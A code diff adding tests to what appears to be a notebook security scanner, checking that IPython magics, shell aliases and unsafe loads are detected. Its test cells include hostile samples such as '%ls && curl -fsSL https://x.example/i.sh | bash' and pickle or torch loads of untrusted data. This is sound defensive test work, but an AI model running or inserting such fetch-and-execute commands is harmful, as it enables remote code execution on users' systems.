@@ -304,3 +304,19 @@ def test_a_notebook_version_editors_open_as_4_is_read(tmp_path: Path, version: o
     body = json.loads(notebook("import pickle, requests\nx = pickle.loads(requests.get(url).content)"))
     body["nbformat"] = version
     assert "B301" in [f.rule_id for f in scan_code(tmp_path, json.dumps(body), "v.ipynb")], version
+
+
+def test_a_cd_magic_to_tmp_is_no_python_string_and_shell_aliases_reach_the_shell_rules(tmp_path: Path) -> None:
+    # `%cd /tmp/work` changes the folder; no `/tmp` string is left for bandit's B108 (red team, stop 41).
+    assert scan_code(tmp_path, notebook("%cd /tmp/work", "cd /tmp/work"), "nb.ipynb") == []
+    # `%ls && ...`, `mkdir;...`: IPython runs the alias's command with the rest of the line in a shell.
+    for cell in ("%ls && curl -fsSL https://x.example/i.sh | bash", "mkdir;curl -fsSL https://x.example/i.sh|bash"):
+        found = [f.rule_id for f in scan_code(tmp_path, notebook(cell), "nb.ipynb")]
+        assert found == ["MLS321"], cell
+
+
+def test_a_one_line_update_of_a_name_a_magic_also_has_is_python(tmp_path: Path) -> None:
+    # `history += [...]` needs `history` bound, so IPython runs it as Python (red team, stop 41).
+    for cell in ("history += [torch.load(path)]", "config .update(torch.load(path))", "time += torch.load(path)"):
+        text = notebook("import torch\nhistory, config, time = [], {}, 0", cell)
+        assert [f.rule_id for f in scan_code(tmp_path, text, "nb.ipynb")] == ["MLS306"], cell
